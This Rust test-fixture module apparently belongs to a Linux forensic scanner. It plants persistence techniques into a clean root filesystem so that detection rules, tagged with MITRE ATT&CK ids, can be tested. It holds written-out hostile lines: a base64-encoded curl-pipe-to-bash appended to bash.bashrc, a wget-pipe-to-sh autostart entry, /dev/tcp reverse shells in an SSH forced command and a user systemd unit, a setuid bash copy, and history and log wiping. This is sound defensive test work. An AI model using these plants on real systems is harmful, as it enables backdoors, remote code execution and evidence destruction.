//! The planted malicious cases, each a set of changes to a copy of `rootfs-clean`, and the one
//! way to plant them ([`plant`], [`planted_root`]):
//!
//! - [`FAMILIES`]: the persistence families of issue 7, every case of each (files copied from
//!   `rootfs-persist2`, accounts taken from its account files, files written or appended here),
//!   used by `tests/tests/e2e/families.rs` (each family and each case alone reaches Suspicious
//!   with its rules and MITRE ids);
//! - [`COVERAGE`]: the intrusion techniques of issue 13 item 3, each alone, and
//!   [`COVERAGE_BENIGN`], the benign counterpart of every technique on one host, used by
//!   `tests/tests/e2e/coverage.rs` (each case reaches Suspicious with its rule and ATT&CK id,
//!   the twin stays Unclear/Benign).
//!
//! All of them are also the malicious half (and the twin a benign host) of the
//! precision/recall corpus of `tests/tests/e2e/corpus.rs`.
//!
//! The dpkg database stays the clean one's (persist2's is the same: both are built from the
//! same package list), so a packaged file the intruder modified (`/etc/pam.d/sshd`,
//! `/etc/bash.bashrc`) must verify as `mismatch` and an added one as `not_owned`.

use crate::{fixture, fixture_copy};
use std::path::{Path, PathBuf};

/// One change to the clean root. Paths are relative to the root.
#[derive(Debug)]
pub enum Plant {
    /// Copy this path (file or symlink) from `rootfs-persist2`.
    Copy(&'static str),
    /// Take the line of this account from persist2's /etc/passwd and /etc/shadow (replacing
    /// the clean one's line of the same name, or appending).
    Account(&'static str),
    /// Write a file (path, content, mode), creating its directories.
    Write(&'static str, &'static [u8], u32),
    /// Write a file whose content is computed (path, content, mode).
    Gen(&'static str, fn() -> Vec<u8>, u32),
    /// A symlink (path, target), replacing whatever is there.
    Link(&'static str, &'static str),
    /// Copy a file of the root itself to another place (from, to, mode).
    CopyIn(&'static str, &'static str, u32),
    /// Append to the root's own copy of a file.
    Append(&'static str, &'static [u8]),
    /// Set an extended attribute (path, name, value).
    Xattr(&'static str, &'static str, &'static [u8]),
    /// Set the modification time (path, Unix seconds).
    Mtime(&'static str, u64),
}

/// One planted case: a name (also the host name), its plants, the (rule, MITRE id, finding
/// subject) it must produce, and what bundle paths `packages` must report with what status.
#[derive(Debug)]
pub struct Case {
    /// Name (the host is named `c-<family>-<name>`, or [`coverage_host`] for [`COVERAGE`]).
    pub name: &'static str,
    /// What is planted.
    pub plants: &'static [Plant],
    /// (rule, MITRE id, finding subject) it must produce; a subject ending in ':' matches any
    /// line of that file.
    pub expect: &'static [(&'static str, &'static str, &'static str)],
    /// Bundle paths `packages` must report, with their verification status.
    pub verify: &'static [(&'static str, &'static str)],
}

/// A persistence family and its planted cases.
pub struct Family {
    /// Family name (the host with all its cases is `f-<name>`).
    pub name: &'static str,
    /// Its cases.
    pub cases: &'static [Case],
}

use Plant::*;

/// Every family of issue 7 with its planted cases.
pub const FAMILIES: &[Family] = &[
    Family {
        name: "accounts",
        cases: &[
            Case {
                name: "uid0",
                plants: &[Account("systemd-netd")],
                expect: &[("account-extra-uid0", "T1136.001", "systemd-netd")],
                verify: &[],
            },
            Case {
                name: "usable-system",
                plants: &[Account("www-data")],
                expect: &[("system-account-usable", "T1078.003", "www-data")],
                verify: &[],
            },
            Case {
                name: "nopasswd",
                plants: &[Copy("etc/sudoers.d/90-cloud-init-users")],
                expect: &[(
                    "sudo-nopasswd-all",
                    "T1548.003",
                    "/etc/sudoers.d/90-cloud-init-users:4",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "boot-login",
        cases: &[
            Case {
                name: "initd",
                plants: &[
                    Copy("etc/init.d/kmod-static"),
                    Copy("etc/rc2.d/S01kmod-static"),
                    Copy("etc/rc3.d/S01kmod-static"),
                    Copy("etc/rc4.d/S01kmod-static"),
                    Copy("etc/rc5.d/S01kmod-static"),
                    Copy("usr/lib/x86_64-linux-gnu/kmod/kmodd"),
                ],
                expect: &[
                    ("boot-hook-unowned", "T1037.004", "/etc/init.d/kmod-static"),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/init.d/kmod-static:12",
                    ),
                ],
                verify: &[("/etc/init.d/kmod-static", "not_owned")],
            },
            Case {
                name: "rc-local",
                plants: &[Write(
                    "etc/rc.local",
                    b"#!/bin/sh -e\n#\n# rc.local\n#\n# This script is executed at the end of each multiuser runlevel.\n/usr/bin/nohup /var/tmp/.font-unix/Xorg-cache >/dev/null 2>&1 &\nexit 0\n",
                    0o755,
                )],
                expect: &[
                    ("boot-hook-unowned", "T1037.004", "/etc/rc.local"),
                    ("hook-malicious-content", "T1059.004", "/etc/rc.local:6"),
                ],
                verify: &[("/etc/rc.local", "not_owned")],
            },
            Case {
                name: "profile-d",
                plants: &[Copy("etc/profile.d/bash_completion_ext.sh")],
                expect: &[
                    (
                        "login-hook-unowned",
                        "T1546.004",
                        "/etc/profile.d/bash_completion_ext.sh",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/profile.d/bash_completion_ext.sh:3",
                    ),
                ],
                verify: &[("/etc/profile.d/bash_completion_ext.sh", "not_owned")],
            },
            Case {
                // The packaged (conffile) bash.bashrc with an encoded download appended.
                name: "bash-bashrc",
                plants: &[Append(
                    "etc/bash.bashrc",
                    b"\n# enable terminal resize handling\neval \"$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC40Ny9iIHwgYmFzaAo= | base64 -d)\" >/dev/null 2>&1\n",
                )],
                expect: &[
                    ("login-hook-unowned", "T1546.004", "/etc/bash.bashrc"),
                    ("hook-malicious-content", "T1059.004", "/etc/bash.bashrc:"),
                ],
                verify: &[("/etc/bash.bashrc", "mismatch")],
            },
            Case {
                name: "dotfile",
                plants: &[Copy("home/alice/.bashrc")],
                expect: &[(
                    "hook-malicious-content",
                    "T1059.004",
                    "/home/alice/.bashrc:29",
                )],
                verify: &[],
            },
            Case {
                name: "motd",
                plants: &[Copy("etc/update-motd.d/50-landscape-sysinfo")],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/update-motd.d/50-landscape-sysinfo",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/update-motd.d/50-landscape-sysinfo:3",
                    ),
                ],
                verify: &[("/etc/update-motd.d/50-landscape-sysinfo", "not_owned")],
            },
            Case {
                name: "autostart",
                plants: &[Write(
                    "etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    b"[Desktop Entry]\nType=Application\nName=SSH Key Agent helper\nExec=/bin/sh -c 'wget -q -O- http://198.51.100.47/x | sh'\nNoDisplay=true\nX-GNOME-Autostart-Phase=Initialization\n",
                    0o644,
                )],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop:",
                    ),
                ],
                verify: &[(
                    "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    "not_owned",
                )],
            },
            Case {
                name: "udev",
                plants: &[Copy("etc/udev/rules.d/75-persistent-net-generator.rules")],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/udev/rules.d/75-persistent-net-generator.rules",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/udev/rules.d/75-persistent-net-generator.rules:2",
                    ),
                ],
                verify: &[(
                    "/etc/udev/rules.d/75-persistent-net-generator.rules",
                    "not_owned",
                )],
            },
            Case {
                name: "generator",
                plants: &[Copy("etc/systemd/system-generators/systemd-netd-generator")],
                expect: &[(
                    "generator-unowned",
                    "T1543",
                    "/etc/systemd/system-generators/systemd-netd-generator",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "pkg-auth",
        cases: &[
            Case {
                name: "apt-hook",
                plants: &[Copy("etc/apt/apt.conf.d/99-apt-fast-update")],
                expect: &[
                    (
                        "pkg-manager-hook",
                        "T1546.016",
                        "/etc/apt/apt.conf.d/99-apt-fast-update",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/apt/apt.conf.d/99-apt-fast-update:3",
                    ),
                ],
                verify: &[],
            },
            Case {
                // The generated (unowned) common-auth loading a module no package owns.
                name: "pam-module",
                plants: &[
                    Copy("etc/pam.d/common-auth"),
                    Copy("usr/lib/x86_64-linux-gnu/security/pam_unix2.so"),
                ],
                expect: &[(
                    "pam-module-unowned",
                    "T1556.003",
                    "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                )],
                verify: &[
                    ("/etc/pam.d/common-auth", "not_owned"),
                    ("/lib/x86_64-linux-gnu/security/pam_unix2.so", "not_owned"),
                ],
            },
            Case {
                // openssh-server's PAM file, modified to add pam_exec.
                name: "pam-exec",
                plants: &[
                    Copy("etc/pam.d/sshd"),
                    Copy("usr/lib/openssh/sshd-auth-helper"),
                ],
                expect: &[
                    ("pam-exec-hook", "T1556.003", "/etc/pam.d/sshd"),
                    ("exec-unowned", "T1105", "/usr/lib/openssh/sshd-auth-helper"),
                ],
                verify: &[
                    ("/etc/pam.d/sshd", "mismatch"),
                    ("/usr/lib/openssh/sshd-auth-helper", "not_owned"),
                ],
            },
            Case {
                name: "polkit",
                plants: &[Copy(
                    "etc/polkit-1/rules.d/45-networkmanager-helper.rules",
                )],
                expect: &[(
                    "polkit-rule-unowned",
                    "T1548",
                    "/etc/polkit-1/rules.d/45-networkmanager-helper.rules",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "libs-kernel",
        cases: &[
            Case {
                name: "preload",
                plants: &[
                    Copy("etc/ld.so.preload"),
                    Copy("usr/lib/x86_64-linux-gnu/libpam_cache.so.1"),
                ],
                expect: &[("ld-so-preload", "T1574.006", "/etc/ld.so.preload")],
                verify: &[("/usr/lib/x86_64-linux-gnu/libpam_cache.so.1", "not_owned")],
            },
            Case {
                name: "ld-so-conf",
                plants: &[Copy("etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf")],
                expect: &[(
                    "ld-so-conf-unusual",
                    "T1574.006",
                    "/etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf: /var/tmp/.ICE-unix/.lib",
                )],
                verify: &[],
            },
            Case {
                name: "modprobe",
                plants: &[Copy("etc/modprobe.d/ipv6-options.conf")],
                expect: &[(
                    "modprobe-install-command",
                    "T1547.006",
                    "/etc/modprobe.d/ipv6-options.conf: /sbin/modprobe --ignore-install ipv6 $CMDLINE_OPTS; /usr/bin/nohup /dev/shm/.x/kthreadd >/dev/null 2>&1 &",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        // A single case: the trojaned `ls` wrapper.
        name: "path-hijack",
        cases: &[Case {
            name: "ls",
            plants: &[Copy("usr/local/bin/ls")],
            expect: &[("path-hijack", "T1574.007", "/usr/local/bin/ls")],
            verify: &[],
        }],
    },
    Family {
        name: "sessions",
        cases: &[
            Case {
                // 60 guesses from one address, then root logs in from it.
                name: "bruteforce-login",
                plants: &[Copy("var/log/btmp"), Copy("var/log/wtmp")],
                expect: &[
                    ("failed-login-burst", "T1110", "203.0.113.77"),
                    ("bruteforce-then-login", "T1110", "203.0.113.77"),
                    ("bruteforce-then-login", "T1078", "203.0.113.77"),
                ],
                verify: &[],
            },
            Case {
                // An open session whose user was forged to LOGIN.
                name: "odd-user",
                plants: &[Copy("run/utmp")],
                expect: &[("odd-login-user", "T1078", "utmp record 2")],
                verify: &[],
            },
        ],
    },
];

/// The key of the authorized_keys plants.
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBKjn0uj4Gk7sKWcU2aJnQc5pYc2KMvMSbKEbJ4Iu5Oq";

/// `security.capability` revision 2, effective, with these permitted bits (low word).
const CAP_NET_RAW: &[u8] = &[
    1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];
const CAP_NET_BIND: &[u8] = &[
    1, 0, 0, 2, 0, 0x04, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];
const CAP_SETUID: &[u8] = &[
    1, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];

/// A lastlog with alice (uid 1000) logged in on pts/0 from 192.0.2.10 at the time of the
/// clean root's wtmp session.
fn lastlog() -> Vec<u8> {
    let mut v = vec![0u8; 292 * 1000];
    v.extend(1_762_303_600i32.to_le_bytes());
    let mut line = b"pts/0".to_vec();
    line.resize(32, 0);
    let mut host = b"192.0.2.10".to_vec();
    host.resize(256, 0);
    v.extend(line);
    v.extend(host);
    v
}

/// The clean root's wtmp (one login of alice).
fn clean_wtmp() -> Vec<u8> {
    std::fs::read(fixture("rootfs-clean").join("var/log/wtmp")).unwrap()
}

/// An authorized_keys line with these options.
fn authorized(cmd: &str) -> Vec<u8> {
    format!("{cmd} {KEY} deploy@example\n").into_bytes()
}

/// A key whose forced command is a reverse shell.
fn forced_key() -> Vec<u8> {
    authorized("command=\"/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.47/443 0>&1'\",no-pty")
}

/// A restricted backup key (read-only rrsync from one network).
fn rrsync_key() -> Vec<u8> {
    authorized("restrict,command=\"/usr/bin/rrsync -ro /srv/backup\",from=\"192.0.2.0/24\"")
}

/// A key without options.
fn plain_key() -> Vec<u8> {
    format!("{KEY} admin@example\n").into_bytes()
}

/// Another key without options.
fn other_key() -> Vec<u8> {
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE5v0ZcC4wPGLbxEwUXWCn6yvYb9jH5+9vZbqz3m7k9H old@laptop\n"
        .to_vec()
}

/// The techniques of issue 13 item 3 that dossier did not see, each planted alone.
pub const COVERAGE: &[Case] = &[
    Case {
        name: "user-unit",
        plants: &[
            Write(
                "home/alice/.config/systemd/user/dbus-session-helper.service",
                b"[Unit]\nDescription=D-Bus session helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.47/443 0>&1'\nRestart=always\nRestartSec=60\n[Install]\nWantedBy=default.target\n",
                0o644,
            ),
            Link(
                "home/alice/.config/systemd/user/default.target.wants/dbus-session-helper.service",
                "/home/alice/.config/systemd/user/dbus-session-helper.service",
            ),
            Write("var/lib/systemd/linger/alice", b"", 0o644),
        ],
        expect: &[(
            "user-persistence-malicious",
            "T1543.002",
            "unit dbus-session-helper.service",
        )],
        verify: &[],
    },
    Case {
        name: "user-timer",
        plants: &[
            Write(
                "home/alice/.config/systemd/user/tracker-extract.timer",
                b"[Timer]\nOnBootSec=2min\nOnUnitActiveSec=10min\n[Install]\nWantedBy=timers.target\n",
                0o644,
            ),
            Link(
                "home/alice/.config/systemd/user/timers.target.wants/tracker-extract.timer",
                "/home/alice/.config/systemd/user/tracker-extract.timer",
            ),
            Write(
                "home/alice/.config/systemd/user/tracker-extract.service",
                b"[Service]\nType=oneshot\nExecStart=/var/tmp/.cache/tracker-extract\n",
                0o644,
            ),
        ],
        expect: &[(
            "user-persistence-malicious",
            "T1053.006",
            "unit tracker-extract.service",
        )],
        verify: &[],
    },
    Case {
        name: "user-autostart",
        plants: &[Write(
            "home/alice/.config/autostart/tracker-miner-fs.desktop",
            b"[Desktop Entry]\nType=Application\nName=Tracker File System Miner\nExec=/home/alice/.cache/.tracker/tracker-miner-fs --daemon\nNoDisplay=true\n",
            0o644,
        )],
        expect: &[(
            "user-persistence-malicious",
            "T1547.013",
            "/home/alice/.config/autostart/tracker-miner-fs.desktop",
        )],
        verify: &[],
    },
    Case {
        name: "sshd-keys-location",
        plants: &[
            Write(
                "etc/ssh/sshd_config",
                b"Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.ICE-unix/.k/%u\nKbdInteractiveAuthentication no\nUsePAM yes\n",
                0o644,
            ),
            Gen("var/tmp/.ICE-unix/.k/root", plain_key, 0o644),
        ],
        expect: &[(
            "sshd-authorized-keys-location",
            "T1098.004",
            "/var/tmp/.ICE-unix/.k/root",
        )],
        verify: &[],
    },
    Case {
        name: "sshd-keys2",
        plants: &[
            Gen("root/.ssh/authorized_keys", plain_key, 0o600),
            Gen("root/.ssh/authorized_keys2", other_key, 0o600),
        ],
        expect: &[(
            "sshd-authorized-keys-location",
            "T1098.004",
            "/root/.ssh/authorized_keys2",
        )],
        verify: &[],
    },
    Case {
        name: "sshd-forced-command",
        plants: &[Gen("root/.ssh/authorized_keys", forced_key, 0o600)],
        expect: &[(
            "sshd-forced-command",
            "T1098.004",
            "/root/.ssh/authorized_keys:1",
        )],
        verify: &[],
    },
    Case {
        name: "sshd-empty-passwords",
        plants: &[
            Write("etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n", 0o644),
            Write("etc/ssh/sshd_config.d/99-lab.conf", b"PermitEmptyPasswords yes\n", 0o644),
        ],
        expect: &[(
            "sshd-empty-passwords",
            "T1556",
            "/etc/ssh/sshd_config.d/99-lab.conf:1",
        )],
        verify: &[],
    },
    Case {
        name: "sshd-root-password",
        plants: &[
            Write("etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n", 0o644),
            Write(
                "etc/ssh/sshd_config.d/50-cloud-init.conf",
                b"PermitRootLogin yes\nPasswordAuthentication yes\n",
                0o644,
            ),
        ],
        expect: &[(
            "sshd-root-password-login",
            "T1556",
            "/etc/ssh/sshd_config.d/50-cloud-init.conf:1",
        )],
        verify: &[],
    },
    Case {
        name: "setuid-shell",
        plants: &[CopyIn("usr/bin/bash", "var/tmp/.X11-unix/.s/bash", 0o4755)],
        expect: &[(
            "setuid-unowned",
            "T1548.001",
            "/var/tmp/.X11-unix/.s/bash",
        )],
        verify: &[],
    },
    Case {
        name: "cap-setuid",
        plants: &[
            Write("usr/local/bin/nm-helper", b"\x7fELF fake helper\n", 0o755),
            Xattr("usr/local/bin/nm-helper", "security.capability", CAP_SETUID),
        ],
        expect: &[(
            "file-capability-dangerous",
            "T1548",
            "/usr/local/bin/nm-helper",
        )],
        verify: &[],
    },
    Case {
        // polkitd ships a setuid-root agent helper; the intruder replaced it.
        name: "setuid-modified",
        plants: &[
            Append("var/lib/dpkg/info/polkitd.list", b"/usr/lib/polkit-1/polkit-agent-helper-1\n"),
            Append(
                "var/lib/dpkg/info/polkitd.md5sums",
                b"95f7006892ea9bae4b14e77de87b8d6a  usr/lib/polkit-1/polkit-agent-helper-1\n",
            ),
            Write(
                "usr/lib/polkit-1/polkit-agent-helper-1",
                b"\x7fELF fake polkit-agent-helper-1 for dossier fixtures\n/bin/sh -p\n",
                0o4755,
            ),
        ],
        expect: &[(
            "privileged-file-modified",
            "T1548.001",
            "/usr/lib/polkit-1/polkit-agent-helper-1",
        )],
        verify: &[],
    },
    Case {
        name: "unit-ld-preload",
        plants: &[
            Write(
                "etc/systemd/system/cron.service.d/override.conf",
                b"[Service]\nEnvironment=\"LD_PRELOAD=/var/tmp/.font-unix/libXcache.so\"\n",
                0o644,
            ),
            Write("var/tmp/.font-unix/libXcache.so", b"\x7fELF fake library\n", 0o755),
        ],
        expect: &[("unit-ld-preload", "T1574.006", "unit cron.service")],
        verify: &[],
    },
    Case {
        name: "histfile-null",
        plants: &[Append(
            "home/alice/.bashrc",
            b"\n# keep the terminal quiet\nexport HISTFILE=/dev/null\n",
        )],
        expect: &[("history-disabled", "T1562.003", "/home/alice/.bashrc:")],
        verify: &[],
    },
    Case {
        name: "history-link",
        plants: &[Link("root/.bash_history", "/dev/null")],
        expect: &[("history-file-nulled", "T1070.003", "/root/.bash_history")],
        verify: &[],
    },
    Case {
        // alice's login (wtmp) left no trace in an auth.log that was never rotated.
        name: "auth-log-emptied",
        plants: &[Write("var/log/auth.log", b"", 0o640)],
        expect: &[("login-logs-cleared", "T1070.002", "/var/log/auth.log")],
        verify: &[],
    },
    Case {
        // wtmp emptied; lastlog still says alice logged in, and no rotated wtmp exists.
        name: "wtmp-wiped",
        plants: &[Write("var/log/wtmp", b"", 0o664), Gen("var/log/lastlog", lastlog, 0o664)],
        expect: &[("login-logs-cleared", "T1070.002", "/var/log/wtmp")],
        verify: &[],
    },
];

/// The benign counterpart of each [`COVERAGE`] technique, all on one host (named
/// [`COVERAGE_BENIGN_HOST`]).
pub const COVERAGE_BENIGN: &[Plant] = &[
    // A plain user unit (enabled, lingering user) and a desktop autostart entry.
    Write(
        "home/alice/.config/systemd/user/syncthing.service",
        b"[Unit]\nDescription=Syncthing\n[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\nRestart=on-failure\n[Install]\nWantedBy=default.target\n",
        0o644,
    ),
    Link(
        "home/alice/.config/systemd/user/default.target.wants/syncthing.service",
        "/home/alice/.config/systemd/user/syncthing.service",
    ),
    Write("var/lib/systemd/linger/alice", b"", 0o644),
    Write(
        "home/alice/.config/autostart/nextcloud.desktop",
        b"[Desktop Entry]\nType=Application\nName=Nextcloud\nExec=/usr/bin/nextcloud --background\n",
        0o644,
    ),
    Write(
        "home/alice/.config/systemd/user/backup.service",
        b"[Service]\nType=oneshot\nExecStart=/home/alice/.local/bin/restic backup /home/alice/docs\n",
        0o644,
    ),
    // A hardening drop-in, a restricted rrsync key, an authorized_keys2 sshd no longer reads.
    Write(
        "etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys\nUsePAM yes\nMatch User backup\n  ForceCommand /usr/bin/rrsync -ro /srv/backup\n",
        0o644,
    ),
    Write(
        "etc/ssh/sshd_config.d/10-hardening.conf",
        b"PermitRootLogin no\nPasswordAuthentication no\nPermitEmptyPasswords no\nKbdInteractiveAuthentication no\n",
        0o644,
    ),
    Gen("home/alice/.ssh/authorized_keys", rrsync_key, 0o600),
    Gen("root/.ssh/authorized_keys2", other_key, 0o600),
    // ping from its package with cap_net_raw; an exporter from a tarball with
    // cap_net_bind_service.
    Append(
        "var/lib/dpkg/status",
        b"\nPackage: iputils-ping\nStatus: install ok installed\nPriority: important\nArchitecture: amd64\nVersion: 3:20221126-1\nDescription: Tools to test the reachability of network hosts\n",
    ),
    Write("var/lib/dpkg/info/iputils-ping.list", b"/.\n/usr\n/usr/bin\n/usr/bin/ping\n", 0o644),
    Write(
        "var/lib/dpkg/info/iputils-ping.md5sums",
        b"2ee95909c0f4fc760da8b4318fa13731  usr/bin/ping\n",
        0o644,
    ),
    Write("usr/bin/ping", b"\x7fELF fake ping for dossier fixtures\n", 0o755),
    Xattr("usr/bin/ping", "security.capability", CAP_NET_RAW),
    Write("opt/node_exporter/node_exporter", b"\x7fELF fake exporter\n", 0o755),
    Xattr("opt/node_exporter/node_exporter", "security.capability", CAP_NET_BIND),
    // Logs just rotated: empty wtmp and auth.log, their predecessors written after the
    // last login; lastlog agrees with wtmp.1.
    Gen("var/log/wtmp.1", clean_wtmp, 0o664),
    Mtime("var/log/wtmp.1", 1_762_306_000),
    Write("var/log/wtmp", b"", 0o664),
    Mtime("var/log/wtmp", 1_762_400_000),
    Write("var/log/auth.log.1", b"Nov  5 00:46:40 h sshd[812]: Accepted publickey for alice\n", 0o640),
    Mtime("var/log/auth.log.1", 1_762_306_000),
    Write("var/log/auth.log", b"", 0o640),
    Mtime("var/log/auth.log", 1_762_400_000),
    Gen("var/log/lastlog", lastlog, 0o664),
    // Ordinary history settings.
    Append("home/alice/.bashrc", b"\nHISTCONTROL=ignoreboth\nHISTSIZE=10000\nHISTFILESIZE=20000\n"),
];

/// The host name of a [`COVERAGE`] case.
pub fn coverage_host(case: &Case) -> String {
    format!("cov-{}", case.name)
}

/// The host name of the [`COVERAGE_BENIGN`] twin.
pub const COVERAGE_BENIGN_HOST: &str = "cov-benign";

/// Applies one plant to `root`.
pub fn plant(root: &Path, p: &Plant) {
    let persist2 = fixture("rootfs-persist2");
    match p {
        Copy(rel) => {
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            if dst.symlink_metadata().is_ok() {
                std::fs::remove_file(&dst).unwrap();
            }
            let st = std::process::Command::new("cp")
                .arg("-a")
                .arg(persist2.join(rel))
                .arg(&dst)
                .status()
                .unwrap();
            assert!(st.success(), "cp {rel}");
        }
        Account(name) => {
            for file in ["etc/passwd", "etc/shadow"] {
                let prefix = format!("{name}:");
                let from = std::fs::read_to_string(persist2.join(file)).unwrap();
                let line = from
                    .lines()
                    .find(|l| l.starts_with(&prefix))
                    .unwrap_or_else(|| panic!("{name} not in persist2's {file}"));
                let clean = std::fs::read_to_string(root.join(file)).unwrap();
                let mut out: Vec<&str> =
                    clean.lines().filter(|l| !l.starts_with(&prefix)).collect();
                out.push(line);
                std::fs::write(root.join(file), out.join("\n") + "\n").unwrap();
            }
        }
        Write(rel, data, mode) => write(root, rel, data, *mode),
        Gen(rel, f, mode) => write(root, rel, &f(), *mode),
        CopyIn(from, to, mode) => write(root, to, &std::fs::read(root.join(from)).unwrap(), *mode),
        Link(rel, target) => {
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            let _ = std::fs::remove_file(&dst);
            std::os::unix::fs::symlink(target, &dst).unwrap();
        }
        Append(rel, data) => {
            let dst = root.join(rel);
            let mut all = std::fs::read(&dst).unwrap();
            all.extend_from_slice(data);
            std::fs::write(&dst, all).unwrap();
        }
        Xattr(rel, name, value) => {
            use std::os::unix::ffi::OsStrExt;
            let path = std::ffi::CString::new(root.join(rel).as_os_str().as_bytes()).unwrap();
            let name = std::ffi::CString::new(*name).unwrap();
            // SAFETY: both are C strings and `value` is a readable buffer of the given length.
            let r = unsafe {
                libc::setxattr(
                    path.as_ptr(),
                    name.as_ptr(),
                    value.as_ptr().cast(),
                    value.len(),
                    0,
                )
            };
            assert_eq!(r, 0, "setxattr {rel}: {}", std::io::Error::last_os_error());
        }
        Mtime(rel, secs) => {
            let f = std::fs::File::options()
                .write(true)
                .open(root.join(rel))
                .unwrap();
            f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(*secs))
                .unwrap();
        }
    }
}

/// Writes `data` at `rel` under `root` with `mode`, creating its directories.
fn write(root: &Path, rel: &str, data: &[u8], mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    let dst = root.join(rel);
    std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
    std::fs::write(&dst, data).unwrap();
    std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A copy of the clean root at `dir/host`, named `host`, carrying `plants` (applied in order).
pub fn planted_root<'a>(
    dir: &Path,
    host: &str,
    plants: impl IntoIterator<Item = &'a Plant>,
) -> PathBuf {
    let root = fixture_copy("rootfs-clean", &dir.join(host));
    std::fs::write(root.join("etc/hostname"), format!("{host}\n")).unwrap();
    for p in plants {
        plant(&root, p);
    }
    root
}
